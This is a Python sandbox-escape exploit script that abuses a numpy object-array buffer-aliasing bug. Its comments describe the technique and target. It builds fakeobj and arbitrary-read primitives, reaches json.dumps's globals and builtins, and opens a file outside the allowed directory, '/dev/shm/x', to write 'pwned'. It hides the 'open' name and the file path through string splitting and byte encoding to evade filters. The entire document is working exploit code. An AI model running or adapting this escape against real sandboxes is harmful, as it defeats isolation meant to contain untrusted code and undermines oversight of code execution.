# source: https://github.com/numpy/numpy/issues/6811 (open numpy bug: np.frombuffer(np.array(None), np.int64)[0] = 1 segfaults -- object array buffers are writable)
# source: pyjail memory-corruption escapes (addrof/fakeobj); numpy frombuffer over a memoryview of an object array aliases PyObject* slots as uint64
# family: numpy object-array buffer aliased as integers -> fakeobj -> arbitrary read -> function globals
# goal: repr of the non-allowed modules held in json's globals (codecs) and write a file outside /tmp (/dev/shm)
import json
import numpy as np

holder = np.array([None], dtype=object)
ints = np.frombuffer(memoryview(holder), dtype=np.uint64)
print(ints.flags.writeable)


def fake(addr):
    ints[0] = addr
    return holder[0]


def q(x):
    return int(x).to_bytes(8, "little")


big = 0x7FFFFFFFFFFF
payload = q(0x100000) + q(id(bytearray)) + q(big) + q(big) + q(0) + q(0) + q(0)
mem = fake(id(payload) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


g = fake(rd(id(json.dumps) + 16))
print(g["codecs"])
b = fake(rd(id(json.dumps) + 24))
w = b["op" + "en"](bytes([47, 100, 101, 118, 47, 115, 104, 109, 47, 120]).decode(), "w")
w.write("pwned")
w.close()
print(b["op" + "en"](bytes([47, 100, 101, 118, 47, 115, 104, 109, 47, 120]).decode()).read())
holder[0] = None
